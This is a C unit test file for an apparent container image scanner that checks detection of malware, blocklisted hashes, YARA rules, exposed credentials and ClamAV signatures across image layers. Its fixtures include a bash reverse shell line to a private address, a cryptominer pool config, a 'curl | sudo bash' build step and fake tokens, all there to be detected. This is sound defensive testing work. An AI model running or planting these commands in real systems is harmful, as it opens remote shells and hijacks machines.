/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The content scanners on images built here: EICAR in a lower layer,
 * deleted above; the blocklist and the user's YARA rules (and bad ones);
 * the built-in rules prefiltered; credentials files; a secret overwritten
 * with itself; ClamAV when it is installed.
 */
#include <fcntl.h>
#include <openssl/evp.h>
#include <sys/stat.h>
#include <unistd.h>

#include "unit.h"
#include "bulkhead/content.h"
#include "bulkhead/image.h"
#include "bulkhead/inventory.h"
#include "bulkhead/report.h"
#include "bulkhead/scan.h"
#include "content_unit.h"
#include "content_build.h"

/* ---- images built here ---------------------------------------------------------- */

static json_t *read_json(const char *path)
{
	struct bh_buf b = BH_BUF_INIT(1u << 20);
	json_t *j = NULL;

	must(bh_read_file(path, &b, NULL), NULL, path);
	must(bh_json_parse(b.data, b.len, 1u << 20, path, &j, NULL), NULL, path);
	bh_buf_release(&b);
	return j;
}

/* Store `j` as a blob of the layout; its digest into d, its size into *size. */
static void write_blob(const char *layout, json_t *j, struct bh_digest *d, size_t *size)
{
	struct bh_buf b = BH_BUF_INIT(1u << 20);
	char *path;

	must(bh_json_dump_buf(j, JSON_COMPACT, &b, NULL), NULL, "dump");
	bh_sha256(b.data, b.len, d);
	path = bh_asprintf("%s/blobs/sha256/%s", layout, bh_digest_hex(d));
	must(bh_write_file_atomic(path, b.data, b.len, 0644, NULL), NULL, path);
	*size = b.len;
	free(path);
	bh_buf_release(&b);
}

/* mkimage.py writes its own history: replace it (config, manifest, index). */
static void set_history(const char *layout, const char *history)
{
	char *ipath = bh_asprintf("%s/index.json", layout), *mpath, *cpath;
	json_t *idx = read_json(ipath), *mdesc = json_array_get(bh_json_arr(idx, "manifests"), 0);
	json_t *man, *cfg, *h = NULL;
	struct bh_digest d;
	struct bh_buf b = BH_BUF_INIT(1u << 20);
	size_t size;

	mpath = bh_asprintf("%s/blobs/sha256/%s", layout, bh_json_str(mdesc, "digest") + 7);
	man = read_json(mpath);
	cpath = bh_asprintf("%s/blobs/sha256/%s", layout,
			    bh_json_str(bh_json_obj(man, "config"), "digest") + 7);
	cfg = read_json(cpath);
	must(bh_json_parse(history, strlen(history), 1u << 20, "history", &h, NULL), NULL,
	     "history");
	json_object_set_new(cfg, "history", h);
	write_blob(layout, cfg, &d, &size);
	json_object_set_new(bh_json_obj(man, "config"), "digest", json_string(d.str));
	json_object_set_new(bh_json_obj(man, "config"), "size", json_integer((json_int_t)size));
	write_blob(layout, man, &d, &size);
	json_object_set_new(mdesc, "digest", json_string(d.str));
	json_object_set_new(mdesc, "size", json_integer((json_int_t)size));
	must(bh_json_dump_buf(idx, JSON_COMPACT, &b, NULL), NULL, "index");
	must(bh_write_file_atomic(ipath, b.data, b.len, 0644, NULL), NULL, ipath);
	bh_buf_release(&b);
	json_decref(idx);
	json_decref(man);
	json_decref(cfg);
	free(ipath);
	free(mpath);
	free(cpath);
}

/* The EICAR test string, put together at run time so that this source file
 * is not itself an EICAR file to antivirus software. */
static char *eicar(void)
{
	return bh_asprintf("%s%s", "X5O!P%@AP[4\\\\PZX54(P^)7CC)7}$EICAR",
			   "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
}

static void eicar_in_lower_layer(void **state)
{
	char *dir = unit_mktmp(), *e = eicar(), *json, *img;
	struct bh_content_opts o = { 0 };
	struct bh_findings f = { 0 };
	const struct bh_finding *x;

	json = bh_asprintf(
		"{\"format\": \"oci\", \"layers\": ["
		"{\"members\": [{\"name\": \"srv/\", \"type\": \"dir\"},"
		" {\"name\": \"srv/download/test.com\", \"data\": \"%s\"},"
		" {\"name\": \"srv/run.sh\", \"mode\": \"0755\", \"data\": \"#!/bin/sh\\nbash -i "
		">& "
		"/dev/tcp/10.0.0.1/4444 0>&1\\n\"},"
		" {\"name\": \"srv/xmrig.json\", \"data\": \"{\\\"url\\\": "
		"\\\"stratum+tcp://pool.supportxmr.com:3333\\\", \\\"algo\\\": \\\"rx/0\\\", "
		"\\\"donate-level\\\": 1}\\n\"}]},"
		"{\"members\": [{\"name\": \"srv/README\", \"data\": \"hello\\n\"}]},"
		"{\"members\": [{\"name\": \"srv/download/test.com\", \"type\": \"whiteout\"}]}]}",
		e);
	img = build_image(dir, json);
	if (!img) {
		free(json);
		free(e);
		unit_rmtmp(dir);
		skip();
	}
	o.malware = o.secrets = true;
	scan_image(img, &o, NULL, false, &f);
	x = need(&f, "BH-MALWARE-EICAR", "/srv/download/test.com");
	assert_int_equal(x->layer, 0);
	assert_int_equal(x->removed_layer, 2);
	assert_int_equal(x->kind, BH_FIND_MALWARE);
	assert_string_equal(x->countermeasure, "4.1.3");
	x = need(&f, "BH-MALWARE-REVERSE-SHELL", "/srv/run.sh");
	assert_int_equal(x->line, 2);
	assert_int_equal(x->removed_layer, -1);
	need(&f, "BH-MALWARE-MINER-POOL", "/srv/xmrig.json");
	need(&f, "BH-MALWARE-MINER", "/srv/xmrig.json");
	bh_findings_release(&f);
	free(img);
	free(json);
	free(e);
	unit_rmtmp(dir);
}

static void blocklist_and_user_rules(void **state)
{
	char *dir = unit_mktmp(), *img, *rules = bh_asprintf("%s/rules", dir);
	char *bl = bh_asprintf("%s/blocklist.txt", dir), *rule = bh_asprintf("%s/mine.yar", rules);
	struct bh_digest d;
	struct bh_buf b = BH_BUF_INIT(4096);
	struct bh_content_opts o = { 0 };
	struct bh_findings f = { 0 };
	const struct bh_finding *x;
	const char *evil = "definitely-evil-payload\n";
	const char *yar = "rule Company_Canary { meta: id = \"ACME-CANARY\" severity = \"LOW\" "
			  "strings: $a = \"acme-canary-7731\" condition: $a }\n";

	img = build_image(dir,
			  "{\"format\": \"oci\", \"layers\": [{\"members\": ["
			  "{\"name\": \"opt/a.bin\", \"data\": \"definitely-evil-payload\\n\"},"
			  "{\"name\": \"opt/b.txt\", \"data\": \"x acme-canary-7731 y\\n\"},"
			  "{\"name\": \"opt/c.txt\", \"data\": \"innocent\\n\"}]}]}");
	if (!img) {
		unit_rmtmp(dir);
		skip();
	}
	bh_sha256(evil, strlen(evil), &d);
	bh_buf_addf(&b, NULL, "# known bad\n\nsha256:%s  evil-dropper\n%064d\n", bh_digest_hex(&d),
		    0);
	must(bh_write_file_atomic(bl, b.data, b.len, 0644, NULL), NULL, bl);
	mkdir(rules, 0755);
	must(bh_write_file_atomic(rule, yar, strlen(yar), 0644, NULL), NULL, rule);
	o.malware = true;
	o.hash_blocklist = bl;
	o.yara_rules_dir = rules;
	scan_image(img, &o, NULL, false, &f);
	x = need(&f, "BH-MALWARE-HASH", "/opt/a.bin");
	assert_int_equal(x->severity, BH_SEV_CRITICAL);
	assert_non_null(strstr(x->title, "evil-dropper"));
	x = need(&f, "ACME-CANARY", "/opt/b.txt");
	assert_int_equal(x->severity, BH_SEV_LOW);
	assert_int_equal(f.n, 2);
	bh_findings_release(&f);
	bh_buf_release(&b);
	free(img);
	free(bl);
	free(rule);
	free(rules);
	unit_rmtmp(dir);
}

static void builtin_rules_prefiltered(void **state)
{
	struct bh_image img = { 0 };
	struct bh_content_opts o = { 0 };
	struct bh_content *c = NULL;
	struct bh_error *err = NULL;
	struct bh_findings f = { 0 };
	struct bh_content_stats st;
	const char *plain = "nothing to see here\n", *pool = "url=stratum+tcp://10.1.1.1:3333\n";

	o.malware = true;
	o.builtin_rules_dir = "rules";
	must(bh_content_new(&img, &o, &c, &err), err, "new");
	/* No literal of the builtin set: YARA does not run at all. */
	must(bh_content_scan_buffer(c, "a.txt", plain, strlen(plain), &f, &err), err, "scan");
	bh_content_stats(c, &st);
	assert_int_equal(st.yara_scanned, 0);
	assert_int_equal(st.files_scanned, 1);
	assert_int_equal(f.n, 0);
	must(bh_content_scan_buffer(c, "b.txt", pool, strlen(pool), &f, &err), err, "scan");
	bh_content_stats(c, &st);
	assert_int_equal(st.yara_scanned, 1);
	need(&f, "BH-MALWARE-MINER-POOL", "/b.txt");
	bh_findings_release(&f);
	bh_content_free(c);
}

static void bad_rules_and_blocklist(void **state)
{
	char *dir = unit_mktmp(), *rule = bh_asprintf("%s/broken.yar", dir);
	char *bl = bh_asprintf("%s/bl.txt", dir);
	struct bh_image img = { 0 };
	struct bh_content_opts o = { 0 };
	struct bh_content *c = NULL;
	struct bh_error *err = NULL;
	const char *yar = "rule ok { condition: true }\nrule bad {\n strings: $a = \"x\"\n "
			  "condition: $b\n}\n";

	must(bh_write_file_atomic(rule, yar, strlen(yar), 0644, NULL), NULL, rule);
	o.malware = true;
	o.builtin_rules_dir = "rules";
	o.yara_rules_dir = dir;
	assert_true(bh_content_new(&img, &o, &c, &err) < 0);
	assert_error(err, BH_ERR_INVALID, "broken.yar:");
	assert_error(err, BH_ERR_INVALID, "undefined string");
	bh_error_clear(&err);
	unlink(rule);
	must(bh_write_file_atomic(bl, "0123\n", 5, 0644, NULL), NULL, bl);
	o.yara_rules_dir = NULL;
	o.hash_blocklist = bl;
	assert_true(bh_content_new(&img, &o, &c, &err) < 0);
	assert_error(err, BH_ERR_INVALID, "bl.txt:1: not a SHA-256 digest");
	bh_error_clear(&err);
	o.hash_blocklist = "/nonexistent/blocklist";
	assert_true(bh_content_new(&img, &o, &c, &err) < 0);
	assert_int_equal(bh_error_code(err), BH_ERR_IO);
	bh_error_clear(&err);
	o.hash_blocklist = NULL;
	o.builtin_rules_dir = "/nonexistent/rules";
	assert_true(bh_content_new(&img, &o, &c, &err) < 0);
	bh_error_clear(&err);
	free(rule);
	free(bl);
	unit_rmtmp(dir);
}

static void credentials_files(void **state)
{
	char *dir = unit_mktmp(), *img;
	struct bh_content_opts o = { 0 };
	struct bh_findings f = { 0 };
	const struct bh_finding *x;

	img = build_image(
		dir,
		"{\"format\": \"oci\", \"config\": {\"User\": \"app\", \"Env\": "
		"[\"API_TOKEN=ghp_OhbVrpoiVgRV5IfLBcbfnoGMbJmTPSIAoCLr\", "
		"\"PASSWORD_FILE=/run/x\"],"
		" \"Labels\": {\"db.password\": \"Sup3r-S3cret!\"}, \"ExposedPorts\": "
		"{\"8080/tcp\": {}},"
		" \"Healthcheck\": {\"Test\": [\"CMD\", \"true\"]}},"
		" \"layers\": ["
		"{\"members\": [{\"name\": \"etc/\", \"type\": \"dir\"},"
		" {\"name\": \"etc/passwd\", \"data\": "
		"\"root:x:0:0::/root:/bin/sh\\napp:x:0:0::/app:/bin/sh\\n\"},"
		" {\"name\": \"usr/sbin/sshd\", \"mode\": \"0755\", \"data\": \"ELF\"},"
		" {\"name\": \"usr/bin/sudo\", \"mode\": \"04755\", \"data\": \"ELF\"},"
		" {\"name\": \"var/lib/apt/lists/deb_dists_bookworm_InRelease\", \"data\": \"x\"},"
		" {\"name\": \"var/lib/apt/lists/lock\", \"data\": \"\"},"
		" {\"name\": \"srv/app/.git/\", \"type\": \"dir\"},"
		" {\"name\": \"srv/app/.git/config\", \"data\": \"[core]\\n\"},"
		" {\"name\": \"srv/data.txt\", \"mode\": \"0666\", \"data\": \"x\"},"
		" {\"name\": \"root/.npmrc\", \"data\": \"registry=https://r.example/\\n"
		"//r.example/:_authToken=5f7c2a9e-0b1d-4e3f-9a8b-7c6d5e4f3a2b\\n\"}]},"
		"{\"members\": [{\"name\": \"root/.docker/config.json\", \"data\": "
		"\"{\\\"auths\\\": {\\\"registry.corp\\\": {\\\"auth\\\": "
		"\\\"dXNlcjpwYXNz\\\"}}}\"}]},"
		"{\"members\": [{\"name\": \"root/.npmrc\", \"type\": \"whiteout\"}]}]}");
	if (!img) {
		unit_rmtmp(dir);
		skip();
	}
	set_history(img,
		    "[{\"created_by\": \"/bin/sh -c #(nop) ADD https://example.com/tool.tgz "
		    "/opt/\"}, {\"created_by\": \"|1 NPM_TOKEN=s3cr3t-t0k3n /bin/sh -c curl "
		    "-fsSL https://get.example.sh | sudo bash -s --\"}, {\"created_by\": \"USER "
		    "app\", \"empty_layer\": true}, {\"created_by\": \"RUN rm /root/.npmrc\"}]");
	o.config = o.secrets = true;
	o.reference = "registry.corp/app:latest";
	scan_image(img, &o, NULL, false, &f);
	/* User "app" is UID 0 in the image's /etc/passwd. */
	x = need(&f, "BH-CFG-001", NULL);
	assert_non_null(strstr(x->description, "UID 0"));
	/* Env with a GitHub token (critical), a label by its name; not PASSWORD_FILE. */
	assert_int_equal(count(&f, "BH-CFG-002"), 2);
	for (size_t i = 0; i < f.n; i++) {
		if (strcmp(f.v[i].id, "BH-CFG-002"))
			continue;
		if (strstr(f.v[i].title, "API_TOKEN"))
			assert_int_equal(f.v[i].severity, BH_SEV_CRITICAL);
		else
			assert_non_null(strstr(f.v[i].title, "db.password"));
		assert_null(strstr(f.v[i].title, "OhbVrpoiVgRV5IfLBcbfnoGMbJmTPSIAoCLr"));
		assert_null(strstr(f.v[i].title, "Sup3r-S3cret!"));
	}
	x = need(&f, "BH-CFG-003", NULL);
	assert_non_null(strstr(x->title, "NPM_TOKEN"));
	assert_int_equal(x->layer, 1);
	x = need(&f, "BH-CFG-011", NULL);
	assert_non_null(strstr(x->title, "https://example.com/tool.tgz"));
	assert_int_equal(x->layer, 0);
	x = need(&f, "BH-CFG-012", NULL);
	assert_non_null(strstr(x->title, "curl"));
	need(&f, "BH-CFG-004", "/usr/sbin/sshd");
	need(&f, "BH-CFG-006", "/usr/bin/sudo");
	x = need(&f, "BH-CFG-008", "/usr/bin/sudo"); /* setuid, and no package ships it */
	assert_int_equal(x->severity, BH_SEV_HIGH);
	need(&f, "BH-CFG-009", "/srv/data.txt");
	x = need(&f, "BH-CFG-015", "/var/lib/apt/lists");
	assert_non_null(strstr(x->title, "1 files"));
	need(&f, "BH-CFG-017", "/srv/app/.git");
	x = need(&f, "BH-CFG-014", NULL);
	assert_non_null(strstr(x->title, "registry.corp/app:latest"));
	assert_null(find(&f, "BH-CFG-005", NULL));
	assert_null(find(&f, "BH-CFG-013", NULL));
	/* Credentials files, followed through the layers. */
	x = need(&f, "BH-CFG-016", "/root/.npmrc");
	assert_int_equal(x->layer, 0);
	assert_int_equal(x->removed_layer, 2);
	assert_int_equal(x->line, 2);
	assert_null(strstr(x->title, "5f7c2a9e-0b1d-4e3f-9a8b-7c6d5e4f3a2b"));
	x = need(&f, "BH-CFG-016", "/root/.docker/config.json");
	assert_int_equal(x->layer, 1);
	assert_int_equal(x->removed_layer, -1);
	assert_non_null(strstr(x->title, "registry.corp"));
	bh_findings_release(&f);
	free(img);
	unit_rmtmp(dir);
}

static void overwritten_with_same_secret(void **state)
{
	char *dir = unit_mktmp(), *img;
	struct bh_content_opts o = { 0 };
	struct bh_findings f = { 0 };
	const struct bh_finding *x;

	/* Layer 2 rewrites the file with the same token (a chmod copy-up); layer
	 * 3 replaces it with another: one finding, removed in layer 3. */
	img = build_image(dir, "{\"format\": \"oci\", \"layers\": ["
			       "{\"members\": [{\"name\": \"t\", \"data\": "
			       "\"T=ghp_OhbVrpoiVgRV5IfLBcbfnoGMbJmTPSIAoCLr\\n\"}]},"
			       "{\"members\": [{\"name\": \"t\", \"mode\": \"0600\", \"data\": "
			       "\"T=ghp_OhbVrpoiVgRV5IfLBcbfnoGMbJmTPSIAoCLr\\n\"}]},"
			       "{\"members\": [{\"name\": \"t\", \"data\": \"nothing\\n\"}]},"
			       "{\"members\": [{\"name\": \"u/\", \"type\": \"dir\"}, {\"name\": "
			       "\"u/v\", \"data\": "
			       "\"T=npm_9n7IWUSmTtzQPxC5HChpoevbLJoLoaeTOdoe\\n\"}]},"
			       "{\"members\": [{\"name\": \"u\", \"type\": \"opaque\"}]}]}");
	if (!img) {
		unit_rmtmp(dir);
		skip();
	}
	o.secrets = true;
	scan_image(img, &o, NULL, false, &f);
	assert_int_equal(count(&f, "BH-SECRET-GITHUB"), 1);
	x = need(&f, "BH-SECRET-GITHUB", "/t");
	assert_int_equal(x->layer, 0);
	assert_int_equal(x->removed_layer, 2);
	x = need(&f, "BH-SECRET-NPM", "/u/v");
	assert_int_equal(x->layer, 3);
	assert_int_equal(x->removed_layer, 4); /* opaque directory */
	bh_findings_release(&f);
	free(img);
	unit_rmtmp(dir);
}

static void clamav_when_installed(void **state)
{
	char *dir, *img, *db;
	struct bh_content_opts o = { 0 };
	struct bh_findings f = { 0 };
	const struct bh_finding *x;
	/* A signature database of our own (ClamAV's needs the network): the hex
	 * of "bulkhead-clamav-canary". */
	const char *ndb = "Bulkhead.Test.Canary:0:*:62756c6b686561642d636c616d61762d63616e617279\n";

	if (access("/usr/bin/clamscan", X_OK) != 0)
		skip(); /* clamscan is not installed */
	dir = unit_mktmp();
	db = bh_asprintf("%s/canary.ndb", dir);
	must(bh_write_file_atomic(db, ndb, strlen(ndb), 0644, NULL), NULL, db);
	img = build_image(dir,
			  "{\"format\": \"oci\", \"layers\": ["
			  "{\"members\": [{\"name\": \"opt/x.bin\", \"data\": \"1 "
			  "bulkhead-clamav-canary 2\"}, {\"name\": \"opt/ok\", \"data\": \"ok\"}]},"
			  "{\"members\": [{\"name\": \"opt/x.bin\", \"type\": \"whiteout\"}]}]}");
	if (!img) {
		free(db);
		unit_rmtmp(dir);
		skip();
	}
	o.malware = true;
	o.clamav = true;
	o.clamav_db = db;
	o.tmpdir = dir;
	scan_image(img, &o, NULL, false, &f);
	x = need(&f, "BH-MALWARE-CLAMAV", "/opt/x.bin");
	assert_non_null(strstr(x->title, "Bulkhead.Test.Canary"));
	assert_int_equal(x->layer, 0);
	assert_int_equal(x->removed_layer, 1);
	assert_int_equal(f.n, 1);
	bh_findings_release(&f);
	/* Not installed: a warning, no findings, no failure. */
	o.clamscan = "/nonexistent/clamscan";
	scan_image(img, &o, NULL, false, &f);
	assert_int_equal(f.n, 0);
	/* A database clamscan cannot read: an error. */
	{
		struct bh_error *err = NULL;
		struct bh_image *im = NULL;
		struct bh_content *c = NULL;
		struct bh_merge *m;
		struct bh_fileset *fs = NULL;
		struct bh_consumer *cons[2];

		o.clamscan = NULL;
		o.clamav_db = "/nonexistent.ndb";
		must(bh_image_open(img, NULL, &im, &err), err, img);
		must(bh_content_new(im, &o, &c, &err), err, "new");
		m = bh_merge_new(im);
		cons[0] = bh_merge_consumer(m);
		cons[1] = bh_content_consumer(c);
		must(bh_image_walk_consumers(im, NULL, cons, 2, &err), err, "walk");
		must(bh_merge_finish(m, &fs, &err), err, "merge");
		assert_true(bh_content_finish(c, fs, NULL, &f, &err) < 0);
		assert_error(err, BH_ERR_IO, "clamscan");
		bh_error_free(err);
		bh_content_free(c);
		bh_merge_free(m);
		bh_fileset_free(fs);
		bh_image_free(im);
	}
	/* Nothing left behind in the staging directory's parent. */
	{
		char *cmd = bh_asprintf("ls -d %s/bulkhead-clamav.* 2>/dev/null | grep -q .", dir);

		assert_int_not_equal(system(cmd), 0);
		free(cmd);
	}
	bh_findings_release(&f);
	free(img);
	free(db);
	unit_rmtmp(dir);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(eicar_in_lower_layer),
		cmocka_unit_test(blocklist_and_user_rules),
		cmocka_unit_test(builtin_rules_prefiltered),
		cmocka_unit_test(bad_rules_and_blocklist),
		cmocka_unit_test(credentials_files),
		cmocka_unit_test(overwritten_with_same_secret),
		cmocka_unit_test(clamav_when_installed),
	};

	return cmocka_run_group_tests_name("content on built images", tests, NULL, NULL);
}
